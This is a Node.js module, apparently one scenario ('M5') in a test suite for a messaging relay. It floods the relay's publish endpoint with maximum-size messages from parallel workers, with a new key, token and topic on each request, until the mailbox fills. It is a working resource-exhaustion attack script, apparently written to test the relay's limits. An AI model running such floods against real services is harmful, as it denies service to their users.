import { request } from 'node:http';
import { createKey, createToken, newTopic } from '../relayClients.mjs';

const localAddress = '127.0.0.2';
const requestsMax = 3_000;
const workers = 8;
const messageBytes = 130_000;

/** One request, whatever its answer; gives its status. */
function send(url, headers, body) {
  return new Promise((resolve) => {
    const outgoing = request(url, { method: 'POST', headers, localAddress }, (incoming) => {
      incoming.resume();
      incoming.on('close', () => resolve(incoming.statusCode));
    });
    outgoing.on('error', () => resolve(0));
    outgoing.end(body);
  });
}

/**
 * M5: messages of the largest allowed size, each on a topic and with a key of its own, until the mailbox is full of
 * them.
 */
export async function attack({ url, relayUrl, projectId, seconds }) {
  const untilMs = Date.now() + seconds * 1_000;
  const statuses = {};
  let sent = 0;
  const work = async () => {
    while (Date.now() < untilMs && sent < requestsMax) {
      const message = String((sent += 1)).padEnd(messageBytes, '=');
      const params = JSON.stringify({ topic: newTopic(), message, ttl: 300, tag: 1108 });
      const body = `{"id":1795252198640396544,"jsonrpc":"2.0","method":"irn_publish","params":${params}}`;
      const headers = { authorization: `Bearer ${createToken(createKey(), relayUrl)}`, 'content-length': body.length };
      const status = await send(`${url}/rpc?projectId=${projectId}`, headers, body);
      statuses[status] = (statuses[status] ?? 0) + 1;
    }
  };
  await Promise.all(Array.from({ length: workers }, work));
  return { sent, megabytes: Math.round((sent * messageBytes) / 1_000_000), statuses };
}
